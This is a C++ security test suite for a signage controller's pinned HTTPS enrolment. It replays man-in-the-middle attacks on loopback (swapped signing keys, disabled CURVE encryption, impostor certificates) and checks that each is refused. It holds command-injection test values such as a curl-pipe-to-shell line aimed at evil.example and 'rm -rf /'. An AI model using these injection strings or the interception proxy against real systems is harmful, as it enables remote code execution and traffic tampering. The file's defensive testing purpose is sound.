// Pinned enrolment and HTTPS on the controller (issue 12, findings 1 and 2).
//
// The attack these tests replay: `microscape-player enroll` spoke plain HTTP,
// pinned nothing and stored whatever contentPublicKey and curveServerKey the
// answer held. A server in between read the one-time token, made the screen
// trust its own content signing key and, answering "curveServerKey": null,
// turned CURVE off; the player printed "(plain)" and exited 0. Here real
// man-in-the-middle proxies on loopback stand between a real microscape-player
// and a real controller; each attack must end in a refusal that writes nothing.
#include <Poco/JSON/Parser.h>
#include <Poco/Net/Context.h>
#include <Poco/Net/HTTPRequestHandler.h>
#include <Poco/Net/HTTPRequestHandlerFactory.h>
#include <Poco/Net/HTTPServer.h>
#include <Poco/Net/HTTPServerParams.h>
#include <Poco/Net/HTTPServerRequest.h>
#include <Poco/Net/HTTPServerResponse.h>
#include <Poco/Net/SecureServerSocket.h>
#include <Poco/Net/ServerSocket.h>
#include <Poco/StreamCopier.h>
#include <Poco/Util/MapConfiguration.h>
#include <sys/stat.h>

#include <algorithm>
#include <atomic>
#include <catch2/catch.hpp>
#include <fstream>

#include "microscape/core/crypto.hpp"
#include "microscape/core/json.hpp"
#include "microscape/core/pin.hpp"
#include "test_support.hpp"

using namespace microscape::testing;
using microscape::testing::runProcess;
using microscape::testing::runShell;

namespace {

bool havePlayer() {
    return ::access(playerBin().c_str(), X_OK) == 0;
}

// Rewrites the body of the controller's answer on its way to the player.
using Rewrite = std::function<std::string(const std::string&)>;

// An HTTP(S) proxy on 127.0.0.1 that forwards each request to the controller
// and hands the answer back, rewritten. With a certificate and key it speaks
// TLS to the player with that key (its own, or the controller's stolen one).
class MitmProxy {
  public:
    MitmProxy(const TestServer& upstream, Rewrite rewrite, const fs::path& cert = {}, const fs::path& key = {})
        : upstream_(upstream), rewrite_(std::move(rewrite)) {
        Poco::Net::ServerSocket socket;
        const Poco::Net::SocketAddress any("127.0.0.1", 0);
        if (!cert.empty()) {
            Poco::Net::Context::Params p;
            p.certificateFile = cert.string();
            p.privateKeyFile = key.string();
            p.verificationMode = Poco::Net::Context::VERIFY_NONE;
            Poco::Net::Context::Ptr ctx = new Poco::Net::Context(Poco::Net::Context::TLS_SERVER_USE, p);
            socket = Poco::Net::SecureServerSocket(any, 16, ctx);
        } else {
            socket = Poco::Net::ServerSocket(any, 16);
        }
        port_ = socket.address().port();
        server_ = std::make_unique<Poco::Net::HTTPServer>(new Factory(*this), socket, new Poco::Net::HTTPServerParams);
        server_->start();
    }
    ~MitmProxy() { server_->stopAll(true); }
    std::uint16_t port() const { return port_; }
    int requests() const { return requests_.load(); }
    std::string url(bool tls) const {
        return std::string(tls ? "https" : "http") + "://127.0.0.1:" + std::to_string(port_);
    }

  private:
    struct Handler : Poco::Net::HTTPRequestHandler {
        explicit Handler(MitmProxy& p) : proxy(p) {}
        void handleRequest(Poco::Net::HTTPServerRequest& req, Poco::Net::HTTPServerResponse& resp) override {
            ++proxy.requests_;
            std::string body;
            Poco::StreamCopier::copyToString(req.stream(), body);
            // Upstream: the real controller, over whatever it speaks, any key.
            Client up(proxy.upstream_.port(), proxy.upstream_.config().tls);
            Response r = up.request(req.getMethod(), req.getURI(), body, req.getContentType());
            const std::string out = proxy.rewrite_ ? proxy.rewrite_(r.body) : r.body;
            resp.setStatus(static_cast<Poco::Net::HTTPResponse::HTTPStatus>(r.status));
            resp.setContentType(r.headers.count("content-type") ? r.headers["content-type"] : "application/json");
            resp.setContentLength(static_cast<std::streamsize>(out.size()));
            resp.send() << out;
        }
        MitmProxy& proxy;
    };
    struct Factory : Poco::Net::HTTPRequestHandlerFactory {
        explicit Factory(MitmProxy& p) : proxy(p) {}
        Poco::Net::HTTPRequestHandler* createRequestHandler(const Poco::Net::HTTPServerRequest&) override {
            return new Handler(proxy);
        }
        MitmProxy& proxy;
    };

    const TestServer& upstream_;
    Rewrite rewrite_;
    std::uint16_t port_ = 0;
    std::atomic<int> requests_{0};
    std::unique_ptr<Poco::Net::HTTPServer> server_;
};

std::string edit(const std::string& body, const std::function<void(Poco::JSON::Object::Ptr)>& f) {
    auto o = parseObject(body);
    f(o);
    return jsonString(o);
}

// The attacker's own content signing key in the answer.
std::string swapContentKey(const std::string& body) {
    auto k = microscape::crypto::PrivateKey::generate();
    const std::string pem = k->publicKey().toPem();
    return edit(body, [&](auto o) {
        if (o->has("contentPublicKey")) o->set("contentPublicKey", pem);
    });
}

// "curveServerKey": null — the screen would talk to the hub unencrypted.
std::string nullCurveKey(const std::string& body) {
    return edit(body, [](auto o) {
        if (o->has("hub")) o->getObject("hub")->set("curveServerKey", Poco::Dynamic::Var());
    });
}

std::string dropCurveKey(const std::string& body) {
    return edit(body, [](auto o) {
        if (o->has("hub")) o->getObject("hub")->remove("curveServerKey");
    });
}

// A self-signed certificate of another key, as an impostor would present.
std::pair<fs::path, fs::path> impostorCertificate(const fs::path& dir) {
    const fs::path cert = dir / "impostor-cert.pem", key = dir / "impostor-key.pem";
    REQUIRE(runShell("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "
                     "/CN=127.0.0.1 -addext subjectAltName=IP:127.0.0.1 -keyout '" +
                     key.string() + "' -out '" + cert.string() + "' >/dev/null 2>&1") == 0);
    return {cert, key};
}

// Replaces the value after `flag` in argv (the URL, a pin).
void setArg(std::vector<std::string>& argv, const std::string& flag, const std::string& value) {
    for (std::size_t i = 0; i + 1 < argv.size(); ++i)
        if (argv[i] == flag) {
            argv[i + 1] = value;
            return;
        }
    FAIL("no " << flag << " in the command");
}

bool has(const std::vector<std::string>& argv, const std::string& flag) {
    return std::find(argv.begin(), argv.end(), flag) != argv.end();
}

// Nothing of an enrolment in DIR: no directory at all, or an empty one.
bool nothingWritten(const fs::path& dir) {
    std::error_code ec;
    return !fs::exists(dir, ec) || fs::is_empty(dir, ec);
}

Response newToken(Client& admin) {
    return admin.post("/api/v1/enrollment-tokens", R"({"name":"车库入口屏"})");
}

}  // namespace

TEST_CASE("the enrolment command pins the controller's keys and names its configured address", "[security][enrol]") {
    TestServer srv;
    Client admin = srv.admin();
    auto t = newToken(admin);
    REQUIRE(t.status == 201);
    auto o = t.json();
    const std::string cmd = o->getValue<std::string>("command");
    INFO(cmd);
    CHECK(o->getValue<std::string>("controllerUrl") == srv.baseUrl());
    CHECK(o->getValue<std::string>("contentKeyHash") == srv.contentKeyHash());
    CHECK(o->getValue<std::string>("tlsKeyHash") == srv.tlsKeyHash());
    CHECK(srv.baseUrl().rfind("https://", 0) == 0);
    // The pins are the SHA-256 of each key's SubjectPublicKeyInfo, as openssl computes it.
    auto contentPem = readFile(srv.dataDir() / "keys" / "content-signing.pub.pem");
    CHECK(*microscape::crypto::pinOfPem(contentPem) == srv.contentKeyHash());
    auto certPem = readFile(srv.dataDir() / "keys" / "tls-cert.pem");
    CHECK(*microscape::crypto::pinOfPem(certPem) == srv.tlsKeyHash());
    auto opensslPin = [&](const std::string& pipeline) {
        auto r = runProcess({"/bin/sh", "-c", pipeline + " | sha256sum | cut -c1-64"});
        return "sha256:" + r.out.substr(0, 64);
    };
    const std::string keys = (srv.dataDir() / "keys").string();
    CHECK(opensslPin("openssl pkey -pubin -in " + keys + "/content-signing.pub.pem -outform der") ==
          srv.contentKeyHash());
    CHECK(opensslPin("openssl x509 -in " + keys + "/tls-cert.pem -pubkey -noout | openssl pkey -pubin -outform der") ==
          srv.tlsKeyHash());
    CHECK(cmd == "microscape-player enroll --controller-http " + srv.baseUrl() + " --token " +
                     o->getValue<std::string>("token") + " --content-key-hash " + srv.contentKeyHash() +
                     " --tls-key-hash " + srv.tlsKeyHash() + " --data-dir /var/lib/microscape/player");

    SECTION("a forged Host header does not reach the command") {
        // The old controller built the command from the Host header: a request with
        // `Host: evil.example` (or shell text) put that into what a technician pastes.
        for (std::string host : {"evil.example", "x;curl${IFS}evil.example|sh", "evil.example:443"}) {
            auto r = admin.request("POST", "/api/v1/enrollment-tokens", R"({"name":"x"})", "application/json",
                                   {{"Host", host}});
            REQUIRE(r.status == 201);
            const std::string c = r.json()->getValue<std::string>("command");
            CHECK(c.find("evil") == std::string::npos);
            CHECK(r.json()->getValue<std::string>("controllerUrl") == srv.baseUrl());
        }
    }
}

TEST_CASE("http.publicUrl names the controller in enrolment commands", "[security][enrol]") {
    TestServer srv([](auto& c) { c.publicUrl = "https://signage.example.cn:8443"; });
    Client admin = srv.admin();
    auto r = newToken(admin);
    REQUIRE(r.status == 201);
    const std::string cmd = r.json()->getValue<std::string>("command");
    CHECK(cmd.rfind("microscape-player enroll --controller-http https://signage.example.cn:8443 "
                    "--token enr_",
                    0) == 0);
    CHECK(srv.publicUrl() == "https://signage.example.cn:8443");
    // The self-signed certificate names the public host too.
    auto text = runProcess({"/usr/bin/openssl", "x509", "-noout", "-ext", "subjectAltName", "-in",
                            (srv.dataDir() / "keys" / "tls-cert.pem").string()});
    CHECK(text.out.find("signage.example.cn") != std::string::npos);
}

TEST_CASE("http.publicUrl and the TLS keys are validated at start-up", "[security][enrol][config]") {
    using microscape::controller::checkPublicUrl;
    CHECK(checkPublicUrl("https://signage.example.cn:8443", true).ok());
    CHECK(checkPublicUrl("https://10.1.2.3", true).ok());
    CHECK(checkPublicUrl("http://10.1.2.3:8080", false).ok());
    CHECK_FALSE(checkPublicUrl("http://10.1.2.3:8080", true).ok());  // plain while serving HTTPS
    CHECK_FALSE(checkPublicUrl("https://a.example;rm -rf /", true).ok());
    CHECK_FALSE(checkPublicUrl("https://a.example/$(id)", true).ok());
    CHECK_FALSE(checkPublicUrl("ftp://a.example", true).ok());
    CHECK_FALSE(checkPublicUrl("https://", true).ok());
    CHECK_FALSE(checkPublicUrl("https://a.example/?q=1", true).ok());
}

TEST_CASE("the HTTPS keys are read and checked like every controller key", "[security][enrol][config]") {
    using microscape::controller::loadConfig;
    TempDir fx;
    const std::string file = (fx.path / "x.pem").string();
    std::ofstream(file) << "x";
    auto load = [&](std::initializer_list<std::pair<const char*, std::string>> kv) {
        Poco::AutoPtr<Poco::Util::MapConfiguration> c(new Poco::Util::MapConfiguration);
        c->setString("controller.dataDir", (fx.path / "d").string());
        for (auto& [k, v] : kv) c->setString(k, v);
        return loadConfig(*c);
    };
    auto fails = [&](std::initializer_list<std::pair<const char*, std::string>> kv, const std::string& says) {
        auto r = load(kv);
        INFO((r.ok() ? std::string("loaded") : r.error().message));
        return !r.ok() && r.error().message.find(says) != std::string::npos;
    };
    auto d = load({});
    REQUIRE(d.ok());
    CHECK(d->tls);  // HTTPS unless switched off
    CHECK(d->publicUrl.empty());
    CHECK(load({{"http.tls", "off"}})->tls == false);
    CHECK(load({{"http.tls", "on"}})->tls == true);
    CHECK(load({{"http.tls.certificate", file}, {"http.tls.privateKey", file}})->tlsCertificate == file);
    CHECK(load({{"http.tls", "off"},
                {"http.publicUrl", "https://proxy.example"},
                {"http.publicTlsKeyHash", "SHA256:" + std::string(64, 'A')}})
              ->publicTlsKeyHash == "sha256:" + std::string(64, 'a'));
    CHECK(fails({{"http.tls", "maybe"}}, "http.tls"));
    CHECK(fails({{"http.tls.certifcate", file}}, "http.tls.certifcate"));  // a typo is not a default
    CHECK(fails({{"http.tls.certificate", file}}, "go together"));
    CHECK(fails({{"http.tls.certificate", "/nonexistent.pem"}, {"http.tls.privateKey", file}}, "not a file"));
    CHECK(fails({{"http.publicUrl", "http://10.0.0.1:8080"}}, "https://"));
    CHECK(fails({{"http.publicUrl", "https://a.example;reboot"}}, "shell"));
    CHECK(fails({{"http.tls", "off"}, {"http.publicUrl", "https://proxy.example"}}, "http.publicTlsKeyHash"));
    CHECK(fails({{"http.publicTlsKeyHash", "sha256:1234"}}, "http.publicTlsKeyHash"));
}

TEST_CASE("HTTPS is the default: self-signed key kept private and stable, Secure cookie, HSTS",
          "[security][enrol][tls]") {
    TestServer srv;
    const fs::path key = srv.dataDir() / "keys" / "tls-key.pem";
    struct stat st {};
    REQUIRE(::stat(key.c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
    const std::string pin = srv.tlsKeyHash();
    REQUIRE(pin.rfind("sha256:", 0) == 0);

    Client c = srv.client();
    auto login = c.login("admin", kAdminPassword);
    REQUIRE(login.status == 200);
    CHECK(Poco::toLower(login.headers["set-cookie"]).find("secure") != std::string::npos);
    CHECK(login.headers["strict-transport-security"] == "max-age=31536000");
    auto page = c.get("/login");  // a console file, not the API
    CHECK(page.headers["strict-transport-security"] == "max-age=31536000");

    // A plain-HTTP client gets no answer on the HTTPS port.
    Client plain(srv.port(), false);
    CHECK_THROWS(plain.get("/healthz"));

    // TLS 1.1 and suites without forward secrecy are refused; TLS 1.2 and 1.3 work.
    const std::string at = "127.0.0.1:" + std::to_string(srv.port());
    auto sclient = [&](const std::string& args) {
        return runShell("echo | timeout 10 openssl s_client -connect " + at + " " + args + " >/dev/null 2>&1");
    };
    CHECK(sclient("-tls1_2") == 0);
    CHECK(sclient("-tls1_3") == 0);
    CHECK(sclient("-tls1_1 -cipher DEFAULT@SECLEVEL=0") != 0);
    CHECK(sclient("-tls1_2 -cipher AES128-SHA") != 0);

    srv.restart();  // the key is kept: enrolment commands already handed out stay valid
    CHECK(srv.tlsKeyHash() == pin);
}

TEST_CASE("an operator's certificate is served and pinned", "[security][enrol][tls]") {
    TempDir fx;
    auto [cert, key] = impostorCertificate(fx.path);  // any certificate the operator has
    TestServer srv([&](auto& c) {
        c.tlsCertificate = cert;
        c.tlsPrivateKey = key;
    });
    CHECK(srv.tlsKeyHash() == *microscape::crypto::pinOfPem(readFile(cert)));
    CHECK_FALSE(fs::exists(srv.dataDir() / "keys" / "tls-cert.pem"));
    Client c = srv.client();  // pins the served key
    CHECK(c.get("/healthz").status == 200);
}

TEST_CASE("with http.tls off: plain HTTP, no HSTS, commands say --insecure-http", "[security][enrol][tls]") {
    TestServer srv([](auto& c) { c.tls = false; });
    Client c = srv.client();
    auto login = c.login("admin", kAdminPassword);
    REQUIRE(login.status == 200);
    CHECK(login.headers.count("strict-transport-security") == 0);
    CHECK(Poco::toLower(login.headers["set-cookie"]).find("secure") == std::string::npos);
    auto r = newToken(c);
    REQUIRE(r.status == 201);
    const std::string cmd = r.json()->getValue<std::string>("command");
    CHECK(cmd.find("--controller-http http://127.0.0.1:") != std::string::npos);
    CHECK(cmd.find("--insecure-http") != std::string::npos);
    CHECK(cmd.find("--content-key-hash sha256:") != std::string::npos);
    CHECK(cmd.find("--tls-key-hash") == std::string::npos);
    CHECK(r.json()->isNull("tlsKeyHash"));
}

TEST_CASE("enrolment through the pinned HTTPS command works end to end", "[security][enrol][e2e]") {
    if (!havePlayer()) {
        WARN("microscape-player not built; skipping");
        return;
    }
    TestServer srv([](auto& c) { c.zmqHeartbeatMs = 200; });
    TempDir fx;
    Client admin = srv.admin();
    const fs::path dir = fx.path / "screen";
    auto argv = enrollArgv(newToken(admin), dir);
    auto r = runProcess(argv);
    INFO(r.out << r.err);
    REQUIRE(r.exitCode == 0);
    CHECK(r.out.find("(CURVE)") != std::string::npos);
    auto cfg = microscape::json::parse(readFile(dir / "player.json"));
    REQUIRE(cfg.ok());
    CHECK(cfg->find("curve")->asBool());
    CHECK(cfg->find("controller_http")->asString() == srv.baseUrl());
    // The pinned content key is the controller's.
    CHECK(*microscape::crypto::pinOfPem(readFile(dir / "keys" / "content.pub.pem")) == srv.contentKeyHash());
    struct stat st {};
    REQUIRE(::stat((dir / "keys" / "identity.pem").c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
    const std::string id = cfg->find("player_id")->asString();

    // The screen then connects to the hub with CURVE, as every enrolled screen does.
    auto screen = startScreen(dir, fx.path / "screen.log", {"--no-playback", "--log-level", "debug"});
    INFO(readFile(fx.path / "screen.log"));
    CHECK(waitFor(
        [&] {
            auto p = admin.get("/api/v1/players/" + id);
            return p.status == 200 && p.json()->optValue<bool>("online", false);
        },
        15000));
}

TEST_CASE("a man in the middle cannot make a screen enrol", "[security][enrol][mitm]") {
    if (!havePlayer()) {
        WARN("microscape-player not built; skipping");
        return;
    }
    TestServer srv;
    TempDir fx;
    Client admin = srv.admin();
    const fs::path dir = fx.path / "screen";

    SECTION("a proxy presenting another TLS key: refused before the token is sent") {
        auto [cert, key] = impostorCertificate(fx.path);
        MitmProxy proxy(srv, {}, cert, key);  // forwards faithfully, but with its own key
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--controller-http", proxy.url(true));
        auto r = runProcess(argv);
        INFO(r.out << r.err);
        CHECK(r.exitCode != 0);
        CHECK(r.err.find("TLS key") != std::string::npos);
        CHECK(r.err.find("nothing was written") != std::string::npos);
        CHECK(proxy.requests() == 0);  // the token never crossed
        CHECK(nothingWritten(dir));
        // The token is unspent: the technician can enrol against the real controller.
        setArg(argv, "--controller-http", srv.baseUrl());
        auto ok = runProcess(argv);
        INFO(ok.out << ok.err);
        CHECK(ok.exitCode == 0);
    }
    SECTION(
        "a proxy holding the controller's TLS key swaps the content key: refused, nothing "
        "written") {
        // Even with the TLS key (stolen, or a compromised TLS-terminating proxy) the
        // content key pin holds.
        MitmProxy proxy(srv, swapContentKey, srv.dataDir() / "keys" / "tls-cert.pem",
                        srv.dataDir() / "keys" / "tls-key.pem");
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--controller-http", proxy.url(true));
        auto r = runProcess(argv);
        INFO(r.out << r.err);
        CHECK(proxy.requests() == 1);
        CHECK(r.exitCode != 0);
        CHECK(r.err.find("content signing key") != std::string::npos);
        CHECK(r.err.find(srv.contentKeyHash()) != std::string::npos);
        CHECK(nothingWritten(dir));
    }
    SECTION(
        "a proxy holding the controller's TLS key nulls the CURVE server key: refused, nothing "
        "written") {
        for (const Rewrite& rw : {Rewrite(nullCurveKey), Rewrite(dropCurveKey)}) {
            MitmProxy proxy(srv, rw, srv.dataDir() / "keys" / "tls-cert.pem", srv.dataDir() / "keys" / "tls-key.pem");
            auto argv = enrollArgv(newToken(admin), dir);
            setArg(argv, "--controller-http", proxy.url(true));
            auto r = runProcess(argv);
            INFO(r.out << r.err);
            CHECK(r.exitCode != 0);
            CHECK(r.err.find("CURVE server key") != std::string::npos);
            CHECK(r.out.find("(plain)") == std::string::npos);
            CHECK(nothingWritten(dir));
        }
    }
    SECTION("a data directory that exists stays empty after a refusal") {
        fs::create_directories(dir);
        MitmProxy proxy(srv, swapContentKey, srv.dataDir() / "keys" / "tls-cert.pem",
                        srv.dataDir() / "keys" / "tls-key.pem");
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--controller-http", proxy.url(true));
        CHECK(runProcess(argv).exitCode != 0);
        CHECK(fs::is_empty(dir));
    }
    SECTION("a wrong pin on the command line is refused against the real controller") {
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--tls-key-hash", "sha256:" + std::string(64, '0'));
        auto r = runProcess(argv);
        CHECK(r.exitCode != 0);
        CHECK(nothingWritten(dir));
        argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--content-key-hash", "sha256:" + std::string(64, 'a'));
        r = runProcess(argv);
        CHECK(r.exitCode != 0);
        CHECK(r.err.find("content signing key") != std::string::npos);
        CHECK(nothingWritten(dir));
    }
}

TEST_CASE("plain http:// enrolment needs --insecure-http and still checks the content key", "[security][enrol][mitm]") {
    if (!havePlayer()) {
        WARN("microscape-player not built; skipping");
        return;
    }
    TestServer srv([](auto& c) { c.tls = false; });
    TempDir fx;
    Client admin = srv.admin();
    const fs::path dir = fx.path / "screen";

    SECTION("without --insecure-http nothing is sent") {
        Poco::Net::ServerSocket listener(Poco::Net::SocketAddress("127.0.0.1", 0));
        auto argv = enrollArgv(newToken(admin), dir);
        REQUIRE(has(argv, "--insecure-http"));
        argv.erase(std::find(argv.begin(), argv.end(), "--insecure-http"));
        setArg(argv, "--controller-http", "http://127.0.0.1:" + std::to_string(listener.address().port()));
        auto r = runProcess(argv);
        INFO(r.err);
        CHECK(r.exitCode == 64);
        CHECK(r.err.find("--insecure-http") != std::string::npos);
        CHECK_FALSE(listener.poll(Poco::Timespan(0),
                                  Poco::Net::Socket::SELECT_READ));  // no connection came
        CHECK(nothingWritten(dir));
    }
    SECTION("with --insecure-http a swapped content key is still refused") {
        MitmProxy proxy(srv, swapContentKey);
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--controller-http", proxy.url(false));
        auto r = runProcess(argv);
        INFO(r.out << r.err);
        CHECK(proxy.requests() == 1);
        CHECK(r.exitCode != 0);
        CHECK(r.err.find("content signing key") != std::string::npos);
        CHECK(nothingWritten(dir));
    }
    SECTION("with --insecure-http a nulled CURVE key is refused") {
        MitmProxy proxy(srv, nullCurveKey);
        auto argv = enrollArgv(newToken(admin), dir);
        setArg(argv, "--controller-http", proxy.url(false));
        auto r = runProcess(argv);
        INFO(r.out << r.err);
        CHECK(r.exitCode != 0);
        CHECK(r.out.find("(plain)") == std::string::npos);
        CHECK(nothingWritten(dir));
    }
    SECTION("with --insecure-http and the real controller it enrols") {
        auto r = runProcess(enrollArgv(newToken(admin), dir));
        INFO(r.out << r.err);
        CHECK(r.exitCode == 0);
        CHECK(fs::exists(dir / "player.json"));
    }
}

TEST_CASE("enrolment with several hub endpoints: the screen moves past one that does not answer",
          "[security][enrol][e2e][failover]") {
    if (!havePlayer()) {
        WARN("microscape-player not built; skipping");
        return;
    }
    TestServer srv([](auto& c) { c.zmqHeartbeatMs = 200; });
    TempDir fx;
    Client admin = srv.admin();
    const fs::path dir = fx.path / "screen";
    // The first hub named is where nothing listens (a node that is down).
    std::string dead;
    {
        Poco::Net::ServerSocket s(Poco::Net::SocketAddress("127.0.0.1", 0));
        dead = "tcp://127.0.0.1:" + std::to_string(s.address().port());
    }
    const std::string live = "tcp://127.0.0.1:" + std::to_string(srv.zmqPort());
    auto argv = enrollArgv(newToken(admin), dir);
    argv.insert(argv.end(), {"--hub-endpoint", dead + "," + live});
    auto r = runProcess(argv);
    INFO(r.out << r.err);
    REQUIRE(r.exitCode == 0);
    auto cfg = microscape::json::parse(readFile(dir / "player.json"));
    REQUIRE(cfg.ok());
    CHECK(cfg->find("endpoint")->asString() == dead);
    REQUIRE(cfg->find("endpoints"));
    REQUIRE(cfg->find("endpoints")->asArray().size() == 2);
    CHECK(cfg->find("endpoints")->asArray()[1].asString() == live);
    const std::string id = cfg->find("player_id")->asString();

    auto screen = startScreen(dir, fx.path / "screen.log", {"--no-playback", "--log-level", "debug"});
    INFO(readFile(fx.path / "screen.log"));
    CHECK(waitFor(
        [&] {
            auto p = admin.get("/api/v1/players/" + id);
            return p.status == 200 && p.json()->optValue<bool>("online", false);
        },
        30000));
}

TEST_CASE("enroll checks its pins before any network contact", "[security][enrol]") {
    if (!havePlayer()) {
        WARN("microscape-player not built; skipping");
        return;
    }
    TempDir fx;
    const fs::path dir = fx.path / "screen";
    const std::string pin = "sha256:" + std::string(64, 'b');
    struct Case {
        std::vector<std::string> args;
        const char* says;
    };
    const Case cases[] = {
        {{"--controller-http", "https://127.0.0.1:9", "--tls-key-hash", pin}, "--content-key-hash is required"},
        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin}, "--tls-key-hash is required"},
        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", "sha256:12", "--tls-key-hash", pin},
         "--content-key-hash must be sha256:"},
        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin, "--tls-key-hash", "md5:00"},
         "--tls-key-hash must be sha256:"},
        {{"--controller-http", "ftp://127.0.0.1:9", "--content-key-hash", pin}, "https://"},
        {{"--controller-http", "http://127.0.0.1:9", "--content-key-hash", pin}, "--insecure-http"},
        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin, "--tls-key-hash", pin,
          "--hub-endpoint", "tcp://127.0.0.1:5560,udp://127.0.0.1:5561"},
         "--hub-endpoint: 'udp://127.0.0.1:5561' is not tcp://HOST:PORT"},
    };
    for (const auto& c : cases) {
        std::vector<std::string> argv{playerBin(), "enroll", "--token", "enr_x", "--data-dir", dir.string()};
        argv.insert(argv.end(), c.args.begin(), c.args.end());
        auto r = runProcess(argv);
        INFO(r.err);
        CHECK(r.exitCode == 64);
        CHECK(r.err.find(c.says) != std::string::npos);
        CHECK(nothingWritten(dir));
    }
}
